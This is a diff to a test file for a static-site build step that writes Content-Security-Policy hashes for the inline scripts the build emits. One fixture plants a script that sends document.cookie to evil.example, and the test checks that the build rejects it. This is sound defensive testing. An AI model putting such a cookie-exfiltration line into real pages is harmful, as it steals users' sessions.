@@ -22,16 +22,36 @@ describe('finaliseSite', () => {
     expect(await readFile(path.join(dist, 'index.html'), 'utf8')).toContain('<a href="zh/plan/index.html">计划</a>');
   });
 
-  test("names each inline script's SHA-256, computed over its UTF-8 bytes, in the page's policy", async () => {
+  test("names the SHA-256 of each inline script the build emits, over its UTF-8 bytes, in every page's policy", async () => {
     const dist = await mkdtemp(path.join(os.tmpdir(), 'mekong-finalise-'));
     const script = 'document.title = "页面未找到";';
     await writeFile(path.join(dist, '404.html'), page(`<a href="/zh/">首页</a><script>${script}</script>`));
+    await writeFile(path.join(dist, 'index.html'), page('<a href="/zh/">首页</a>'));
     const hash = `sha256-${createHash('sha256').update(Buffer.from(script, 'utf8')).digest('base64')}`;
-    const result = await finaliseSite(dist);
+    const result = await finaliseSite(dist, { inlineScripts: [script] });
     expect(result.hashes).toEqual([hash]);
     const html = await readFile(path.join(dist, '404.html'), 'utf8');
     expect(html).toContain(`script-src 'self' 'wasm-unsafe-eval' '${hash}'`);
-    // The 404 page is served at any depth: its links stay root-absolute.
-    expect(html).toContain('<a href="/zh/">首页</a>');
+    // The 404 page is served at any depth: its links are relative to the site root, which its script makes the base.
+    expect(html).toContain('<a href="zh/index.html">首页</a>');
+    expect(await readFile(path.join(dist, 'index.html'), 'utf8')).toContain(`'${hash}'`);
+  });
+
+  test('an inline script the build did not emit fails the build instead of entering the policy', async () => {
+    const dist = await mkdtemp(path.join(os.tmpdir(), 'mekong-finalise-'));
+    await mkdir(path.join(dist, 'zh'));
+    await writeFile(path.join(dist, 'zh', 'index.html'), page('<p>推进</p><script>fetch("https://evil.example/?" + document.cookie)</script>'));
+    await expect(finaliseSite(dist, { inlineScripts: ['document.title = "x";'] })).rejects.toThrow(/zh\/index\.html: an inline script the build does not emit/u);
+    // With the build's own scripts only, too: the page's script is never hashed into a policy.
+    await expect(finaliseSite(dist)).rejects.toThrow(/inline script the build does not emit/u);
+  });
+
+  test('every page gets the policy: an upper-case charset is found, a page without one fails', async () => {
+    const dist = await mkdtemp(path.join(os.tmpdir(), 'mekong-finalise-'));
+    await writeFile(path.join(dist, 'index.html'), '<!DOCTYPE html><html lang="en"><head><META CHARSET="UTF-8"><title>x</title></head><body></body></html>');
+    await finaliseSite(dist);
+    expect(await readFile(path.join(dist, 'index.html'), 'utf8')).toMatch(/<META CHARSET="UTF-8"><meta http-equiv="Content-Security-Policy" content="default-src 'self';/u);
+    await writeFile(path.join(dist, 'other.html'), '<!DOCTYPE html><html lang="en"><head><title>x</title></head><body></body></html>');
+    await expect(finaliseSite(dist)).rejects.toThrow(/other\.html: no <meta charset="utf-8">/u);
   });
 });
